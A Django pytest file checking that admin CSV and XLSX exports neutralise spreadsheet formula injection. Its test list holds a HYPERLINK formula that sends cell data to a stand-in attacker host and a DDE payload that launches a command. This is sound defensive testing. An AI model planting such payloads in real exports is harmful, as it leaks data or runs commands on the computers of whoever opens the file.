"""Every admin export is safe to open in a spreadsheet: text that looks like a formula stays text."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from import_export.forms import SelectableFieldsExportForm

from core import spreadsheets
from taxonomy.models import Skill
from taxonomy.resources import SkillResource
from taxonomy.tests.factories import SkillFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=1+2",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3 minus",
    "\t=tab",
]


def test_every_admin_export_uses_the_safe_formats():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert len(exporting) >= 10  # taxonomy, profiles, catalogue and metrics tables
    for model_admin in exporting:
        for export_format in model_admin.get_export_formats():
            assert issubclass(export_format, (spreadsheets.CSV, spreadsheets.XLSX)), model_admin


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised_and_ordinary_values_are_not(text):
    assert spreadsheets.neutralised(text) == "'" + text
    for ordinary in ["SQL", "-3", "+4.5", "1e3", "", None, 7, "Data & analytics"]:
        assert spreadsheets.neutralised(ordinary) == ordinary


def export(client, file_format: int) -> bytes:
    fields = {
        SelectableFieldsExportForm.create_boolean_field_name(SkillResource, name): "on"
        for name in SkillResource().get_export_order()
    }
    response = client.post(
        reverse("admin:taxonomy_skill_export"), {"format": str(file_format), "resource": "0", **fields}
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.django_db
def test_hr_exports_skills_named_like_formulas_as_text_in_csv_and_xlsx(client, org):
    for text in HOSTILE:
        SkillFactory(name=text)
    client.force_login(org.hr_user)

    names_in_csv = {row["name"] for row in csv.DictReader(io.StringIO(export(client, 0).decode()))}
    assert names_in_csv == {f"'{text}" for text in HOSTILE}

    book = openpyxl.load_workbook(io.BytesIO(export(client, 1)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in cells}
    assert set(HOSTILE) <= names  # exactly as stored: an export imports back unchanged
    assert Skill.objects.filter(name__in=HOSTILE).count() == len(HOSTILE)
